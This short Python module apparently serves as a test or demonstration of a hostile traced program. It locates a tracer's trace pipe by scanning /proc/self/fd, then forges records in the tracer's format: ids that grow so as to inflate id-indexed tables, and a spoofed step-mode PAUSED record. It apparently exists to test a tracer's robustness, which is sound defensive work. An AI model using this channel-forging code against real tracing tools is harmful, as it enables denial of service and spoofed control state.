"""What a hostile program can write into its own trace channel: finds the channel (the
tracer moves it to a high fd) and frames records as the tracer would."""

import fcntl
import os
import struct


def trace_fd() -> int:
    """The write end of the trace pipe the tracer keeps open in this process."""
    for fd in range(3, 1024):
        try:
            target = os.readlink(f"/proc/self/fd/{fd}")
            flags = fcntl.fcntl(fd, fcntl.F_GETFL)
        except OSError:
            continue
        if target.startswith("pipe:") and flags & os.O_ACCMODE == os.O_WRONLY and fd > 2:
            return fd
    raise SystemExit("no trace channel found")


def record(kind: int, payload: bytes) -> bytes:
    return struct.pack("<BBH", 0xEA, kind, len(payload)) + payload


def growing_ids(count: int = 30) -> bytes:
    """STR and TASK_NEW records whose ids grow by half of what a table indexed by id holds."""
    out = bytearray()
    size = 0
    for _ in range(count):
        nid = size + 4096 + size // 2 - 1
        out += record(1, struct.pack("<I", nid) + b"x")
        out += record(3, struct.pack("<QIIIIIII", 0, nid, 1, 0, nid, 0, 0, 0))
        size = nid + 1
    return bytes(out)


def paused() -> bytes:
    """A step-mode PAUSED record, as the tracer writes before it waits for a command."""
    return record(26, struct.pack("<QIBIIIIIII", 0, 1, 0, 1, 0, 0, 0, 0, 0, 1))


def send(data: bytes) -> None:
    fd = trace_fd()
    while data:
        data = data[os.write(fd, data):]
